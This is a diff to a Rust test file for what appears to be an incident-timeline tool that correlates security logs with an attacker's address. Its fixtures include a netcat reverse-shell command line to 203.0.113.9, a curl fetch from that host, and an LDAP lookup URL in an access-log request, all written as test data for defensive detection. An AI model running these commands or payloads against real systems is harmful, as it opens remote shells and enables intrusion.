@@ -7,7 +7,7 @@ use serde_json::{Value, json};
 use staunch_model::text::is_unsafe_to_show;
 use staunch_server::dto::IncidentDetail;
 
-use super::super::{csv, html, text, timeline};
+use super::super::{Beside, csv, html, text, timeline};
 use super::*;
 use crate::output::{self, Output};
 
@@ -59,9 +59,9 @@ fn told(logs: &[(&str, &str)], arguments: &[&str]) -> Result<(Value, String), Fa
     let place = format!("{}/", folder.path().display());
     let named = arguments.iter().map(|it| it.replace("LOG:", &place));
     let only = Only::try_parse_from(["it".to_owned()].into_iter().chain(named)).expect("arguments");
-    let detail = incident();
+    let (detail, beside) = (incident(), Beside::default());
     let further = read(&detail, &only.further, Err("nothing is sealed".to_owned()))?;
-    let timeline = timeline(&detail, further);
+    let timeline = timeline(&detail, further, &beside);
     let shown = text(&Output::plain(), &timeline);
     assert!(
         shown
@@ -141,7 +141,7 @@ fn of_logs_there_is_what_belongs_to_the_incident_where_its_time_puts_it() {
     let cut = told(&[("flows.cut.zst", FLOWS)], &["--logs", "LOG:flows.cut.zst"]).expect("it is read");
     assert_eq!(cut.0["logs"][0]["shown"], 2, "{}", cut.1);
     assert_eq!(cut.0["logs"][0]["format"], "vpc-flow");
-    assert!(cut.1.contains("broken off: "), "{}", cut.1);
+    assert!(cut.1.contains("; read up to entry 4: "), "{}", cut.1);
 
     // Everything, of a longer time.
     let all = ["--logs", "LOG:flows", "--all", "--before", "3h"];
@@ -314,13 +314,13 @@ fn a_time_without_a_year_is_marked_as_inferred_everywhere() {
     let folder = tempfile::tempdir().expect("a folder");
     let path = folder.path().join("auth.log");
     fs::write(&path, line).expect("it is our folder");
-    let detail = incident();
+    let (detail, beside) = (incident(), Beside::default());
     let argument = path.display().to_string();
     let only = Only::try_parse_from(["it", "--logs", &argument]).expect("arguments");
     let further = || read(&detail, &only.further, Err(String::new())).expect("it is read");
-    let page = html::page(&timeline(&detail, further()), None);
+    let page = html::page(&timeline(&detail, further(), &beside), None);
     assert!(page.contains("<td>inferred: year, zone</td>"), "{page}");
-    let sheet = csv(&timeline(&detail, further()).entries).expect("CSV");
+    let sheet = csv(&timeline(&detail, further(), &beside).entries).expect("CSV");
     assert!(sheet.contains(",inferred,log,auth.log,year zone,"), "{sheet}");
 }
 
@@ -332,11 +332,11 @@ fn words_of_attackers_stay_words_in_every_format() {
     let folder = tempfile::tempdir().expect("a folder");
     let path = folder.path().join(name);
     fs::write(&path, lines).expect("it is our folder");
-    let detail = incident();
+    let (detail, beside) = (incident(), Beside::default());
     let argument = format!("log={}", path.display());
     let only = Only::try_parse_from(["it", "--logs", &argument]).expect("arguments");
     let further = read(&detail, &only.further, Err(String::new())).expect("it is read");
-    let timeline = timeline(&detail, further);
+    let timeline = timeline(&detail, further, &beside);
     assert_eq!(timeline.logs[0].shown, 2, "{:?}", timeline.logs);
     let page = html::page(&timeline, None);
     assert!(page.contains("class=\"mark stated\""), "{page}");
@@ -467,4 +467,114 @@ fn entries_are_bounded_and_what_was_left_out_is_told() {
     let (json, _) = told(&logs, &["--logs", "LOG:flood.log", "--logs", "LOG:small.log"]).expect("it is read");
     assert_eq!(json["logs"][0]["shown"], ENTRIES_MAX / 2);
     assert_eq!(json["logs"][1]["shown"], 1);
+}
+
+/// Records whose sides are not the attacker, who stands somewhere else in them.
+#[test]
+fn who_is_named_anywhere_in_a_record_makes_it_one_of_the_incident() {
+    let at = "2026-11-25T12:00:01Z";
+    let cloudtrail = |cidr: &str| {
+        json!({"eventVersion": "1.08", "eventTime": at, "eventSource": "ec2.amazonaws.com", "eventID": "e1",
+            "eventName": "AuthorizeSecurityGroupIngress", "awsRegion": "eu-central-1", "sourceIPAddress": "198.51.100.7",
+            "userIdentity": {"type": "IAMUser", "userName": "bob"},
+            "requestParameters": {"ipPermissions": {"items": [{"ipRanges": {"items": [{"cidrIp": cidr}]}}]}}})
+    };
+    let suricata = json!({"timestamp": "2026-11-25T12:00:01.000000+0000", "event_type": "http", "src_ip": "10.0.0.5",
+        "src_port": 41000, "dest_ip": "198.51.100.8", "dest_port": 3128, "proto": "TCP",
+        "http": {"hostname": "203.0.113.9", "url": "/x", "http_method": "GET"}});
+    let falco = |fields: Value| {
+        json!({"time": at, "rule": "Reverse shell", "priority": "Critical", "source": "syscall", "output": "a shell",
+            "output_fields": fields})
+    };
+    let alertmanager = json!({"status": "firing", "labels": {"alertname": "HostDown", "severity": "critical",
+        "instance": "203.0.113.9:9100"}, "annotations": {}, "startsAt": at, "fingerprint": "dd19ae3d4e06ac55"});
+    let guardduty = json!({"version": "0", "detail-type": "GuardDuty Finding", "source": "aws.guardduty", "time": at,
+        "detail": {"schemaVersion": "2.0", "id": "f1", "arn": "arn:x", "accountId": "1", "region": "r", "severity": 8,
+        "type": "UnauthorizedAccess:EC2/SSHBruteForce", "title": "it tries", "createdAt": at, "updatedAt": at,
+        "service": {"serviceName": "guardduty", "resourceRole": "ACTOR", "eventFirstSeen": at, "eventLastSeen": at,
+            "action": {"actionType": "NETWORK_CONNECTION", "networkConnectionAction": {
+                "remoteIpDetails": {"ipAddressV4": "203.0.113.9"}, "localIpDetails": {"ipAddressV4": "10.0.0.5"}}}},
+        "resource": {"resourceType": "Instance"}}});
+    let journal = json!({"MESSAGE": "began", "_CMDLINE": "nc -e /bin/sh 203.0.113.9 4444",
+        "__REALTIME_TIMESTAMP": "1795608001000000"});
+    let seventeen: String = (1..=17).map(|it| format!("10.9.9.{it} ")).collect();
+    let access = format!(
+        "198.51.100.7 - - [25/Nov/2026:12:00:01 +0000] \"GET /{}?u=ldap%3A%2F%2F203.0.113.9%3A1389%2Fa HTTP/1.1\" 200 1\n",
+        seventeen.replace(' ', "/")
+    );
+    let rows = [
+        ("cloudtrail", cloudtrail("203.0.113.9/32").to_string(), true),
+        // A network that has the address is not the address, and one that begins like it is another.
+        ("cloudtrail", cloudtrail("203.0.113.0/24").to_string(), false),
+        ("cloudtrail", cloudtrail("203.0.113.90/32").to_string(), false),
+        ("suricata", suricata.to_string(), true),
+        (
+            "falco",
+            falco(json!({"fd.name": "10.0.0.5:41->203.0.113.9:4444"})).to_string(),
+            true,
+        ),
+        (
+            "falco",
+            falco(json!({"proc.cmdline": "curl http://203.0.113.9/x"})).to_string(),
+            true,
+        ),
+        (
+            "falco",
+            falco(json!({"proc.cmdline": "curl http://1203.0.113.9/x"})).to_string(),
+            false,
+        ),
+        ("alertmanager", alertmanager.to_string(), true),
+        ("guardduty", guardduty.to_string(), true),
+        ("journal", journal.to_string(), true),
+        ("access", access, true),
+        ("log", format!("{at} {seventeen}203.0.113.9\n"), true),
+    ];
+    for (format, line, is_shown) in rows {
+        let line = format!("{}\n", line.trim_end());
+        let argument = format!("--logs={format}=LOG:it");
+        let (json, text) = told(&[("it", &line)], &[&argument]).expect("it is read");
+        let log = &json["logs"][0];
+        assert_eq!(log["facts"], 1, "{format} {line}: {log}");
+        assert_eq!(log["shown"] == 1, is_shown, "{format} {line}: {log}");
+        if is_shown {
+            let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
+            assert!(flat.contains("203.0.113.9"), "it is not said why it is here: {text}");
+            let shown = entries(&json)
+                .into_iter()
+                .find(|it| it.starts_with("log"))
+                .expect("it is shown");
+            assert!(shown.contains("203.0.113.9"), "it is not said why it is here: {shown}");
+        }
+    }
+}
+
+#[test]
+fn a_log_that_cannot_be_read_to_its_end_keeps_nothing_of_the_others_back() {
+    let folder = tempfile::tempdir().expect("a folder");
+    let flows = folder.path().join("flows");
+    fs::write(&flows, FLOWS).expect("it is our folder");
+    // The memory of a process can be opened, and its first page cannot be read.
+    let broken = "/proc/self/mem";
+    let (detail, beside) = (incident(), Beside::default());
+    let arguments = [
+        "it".to_owned(),
+        format!("--logs=log={broken}"),
+        format!("--logs={}", flows.display()),
+    ];
+    let only = Only::try_parse_from(arguments).expect("arguments");
+    let further = read(&detail, &only.further, Err(String::new())).expect("the other is read");
+    let timeline = timeline(&detail, further, &beside);
+    let json = serde_json::to_value(&timeline).expect("JSON");
+    let failed = json["logs"][0]["failed"].as_str().unwrap_or_default();
+    assert!(failed.contains("os error 5"), "{json:#}");
+    assert_eq!(json["logs"][1]["shown"], 2, "{json:#}");
+    assert!(
+        timeline.told()[0].contains("not read: Input/output error"),
+        "{:?}",
+        timeline.told()
+    );
+    // Alone it is an error.
+    let only = Only::try_parse_from(["it".to_owned(), format!("--logs=log={broken}")]).expect("arguments");
+    let fault = read(&detail, &only.further, Err(String::new())).expect_err("nothing was read");
+    assert_eq!(fault.exit, Exit::Failed, "{}", fault.render(false));
 }
